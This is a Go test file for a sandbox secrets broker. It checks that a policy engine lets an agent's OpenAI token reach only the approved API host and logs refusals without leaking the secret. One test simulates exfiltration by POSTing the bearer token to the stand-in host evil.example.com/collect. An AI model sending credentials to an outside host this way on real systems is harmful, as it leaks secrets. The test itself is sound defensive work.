package broker

import (
	"context"
	"encoding/json"
	"errors"
	"strings"
	"sync"
	"testing"

	"github.com/warden-sandbox/warden/internal/audit"
	"github.com/warden-sandbox/warden/internal/govern"
	"github.com/warden-sandbox/warden/internal/govern/governtest"
	"github.com/warden-sandbox/warden/internal/secrets"
)

// Brokered secret use through the governed path: each substitution is a
// secret.use action decided by a real govern.Engine.

type useAudit struct {
	mu     sync.Mutex
	events []audit.Event
}

func (a *useAudit) Append(_ context.Context, e audit.Event) (audit.Event, error) {
	a.mu.Lock()
	defer a.mu.Unlock()
	a.events = append(a.events, e)
	return e, nil
}

func (a *useAudit) take() []audit.Event {
	a.mu.Lock()
	defer a.mu.Unlock()
	ev := a.events
	a.events = nil
	return ev
}

const evilHost = "evil.example.com"

func TestGovernSecretUse(t *testing.T) {
	e := newEnv(t)
	eng := govern.New(govern.Config{})
	var p govern.Policy
	if err := json.Unmarshal([]byte(`{"id": "secrets", "scope": {"kind": "installation"}, "rules": [
		{"id": "openai-only-to-api", "kinds": ["secret.use"], "outcome": "deny", "message": "openai goes to its API only",
		 "when": "secret.name == \"openai\" && secret.host != \"api.example.com\" && secret.grant == \"sandbox:sb-1\""},
		{"id": "watch-api", "kinds": ["secret.use"], "when": "secret.host == \"api.example.com\"", "outcome": "log_only"}
	]}`), &p); err != nil {
		t.Fatal(err)
	}
	if _, err := eng.CreatePolicy(context.Background(), p, "prn-admin"); err != nil {
		t.Fatal(err)
	}
	rec := &useAudit{}
	actors := 0
	g := &SecretUseGovernor{Engine: eng, Audit: governtest.AuditLog(t, rec),
		Actor: func(_ context.Context, sb string) (govern.Principal, *govern.SandboxInfo, error) {
			actors++
			return govern.Principal{ID: "agent-1", Kind: "agent"}, &govern.SandboxInfo{ID: sb}, nil
		},
		SecretName: func(id string) string {
			s, err := e.vault.Get(id)
			if err != nil {
				return ""
			}
			return s.Name
		}}
	e.b.cfg.Govern = g.Decide

	sec := e.put("openai", secretV1)
	gr := e.grant(secrets.Grant{SecretID: sec.ID, Sandbox: "sb-1", Hosts: []string{apiHost, evilHost}})
	ph := gr.Placeholder
	up := &recorder{}
	target, _ := e.upstream(echo(up), apiHost, evilHost)

	// Allowed (and flagged by the log_only rule): substituted, and the use
	// event carries the decision.
	c, _ := e.client("sb-1", "agent-1", target, []string{apiHost, evilHost}, e.sandboxRoots("sb-1"))
	resp, body := do(t, c, "GET", "https://"+apiHost+"/v1/models", "Bearer "+ph, "")
	if resp.StatusCode != 200 || up.last(t).Auth != "Bearer "+secretV1 {
		t.Fatalf("allowed use: %d %q, upstream got %q", resp.StatusCode, body, up.last(t).Auth)
	}
	uses, _ := e.events()
	if len(uses) != 1 || uses[0].Govern == nil || uses[0].Govern.Decision.RuleID != "watch-api" ||
		uses[0].Govern.Action.Secret.Name != "openai" || uses[0].Govern.Action.Secret.Grant != "sandbox:sb-1" {
		t.Fatalf("use events %+v", uses)
	}
	if ev := rec.take(); len(ev) != 0 {
		t.Fatalf("an allowed use wrote refusal events: %+v", ev)
	}

	// Refused: a 403 from the broker with the rule's message; the upstream
	// receives nothing; one secret.use event, denied, naming the rule.
	before := len(up.all())
	c2, _ := e.client("sb-1", "agent-1", target, []string{apiHost, evilHost}, e.sandboxRoots("sb-1"))
	resp, body = do(t, c2, "POST", "https://"+evilHost+"/collect", "Bearer "+ph, "data")
	if resp.StatusCode != 403 || !strings.Contains(body, "denied by policy: openai goes to its API only") {
		t.Fatalf("refused use: %d %q", resp.StatusCode, body)
	}
	if n := len(up.all()); n != before {
		t.Fatalf("the upstream received the refused request (%d requests, had %d)", n, before)
	}
	if uses, _ := e.events(); len(uses) != 1 {
		t.Fatalf("a refused use was reported as a use: %+v", uses)
	}
	ev := rec.take()
	if len(ev) != 1 {
		t.Fatalf("%d refusal events", len(ev))
	}
	var d struct {
		Host   string             `json:"host"`
		Govern govern.AuditRecord `json:"govern"`
	}
	if err := json.Unmarshal(ev[0].Detail, &d); err != nil {
		t.Fatal(err)
	}
	if ev[0].Action != "secret.use" || ev[0].Outcome != audit.OutcomeDenied || ev[0].Target != "sb-1" || ev[0].PrincipalID != "agent-1" ||
		d.Host != evilHost || d.Govern.Decision.RuleID != "openai-only-to-api" || d.Govern.Decision.PolicyVersion != 1 ||
		d.Govern.Action.Secret.ID != sec.ID || d.Govern.Action.Secret.Host != evilHost {
		t.Fatalf("refusal event %+v %+v", ev[0], d)
	}
	assertNoSecret(t, "refusal event", string(ev[0].Detail), secretV1)

	// Without rules for secret.use nothing is decided (nor resolved).
	if err := eng.DeletePolicy(context.Background(), "secrets"); err != nil {
		t.Fatal(err)
	}
	actors = 0
	c3, _ := e.client("sb-1", "agent-1", target, []string{apiHost, evilHost}, e.sandboxRoots("sb-1"))
	if resp, body := do(t, c3, "GET", "https://"+evilHost+"/x", "Bearer "+ph, ""); resp.StatusCode != 200 {
		t.Fatalf("no rules: %d %q", resp.StatusCode, body)
	}
	if actors != 0 || up.last(t).Auth != "Bearer "+secretV1 {
		t.Fatalf("no rules: %d actor calls, upstream got %q", actors, up.last(t).Auth)
	}
	if uses, _ := e.events(); uses[len(uses)-1].Govern != nil {
		t.Fatalf("no rules: use event has a decision %+v", uses[len(uses)-1].Govern)
	}
}

// An owner that cannot be resolved refuses the use (fail closed).
func TestGovernSecretUseUnknownActor(t *testing.T) {
	eng := govern.New(govern.Config{Default: govern.LogOnly})
	g := &SecretUseGovernor{Engine: eng, Actor: func(context.Context, string) (govern.Principal, *govern.SandboxInfo, error) {
		return govern.Principal{}, nil, errors.New("store down")
	}}
	if err := g.Decide(context.Background(), &UseEvent{SandboxID: "sb-1", SecretID: "s"}); err == nil {
		t.Fatal("use allowed without an actor")
	}
}
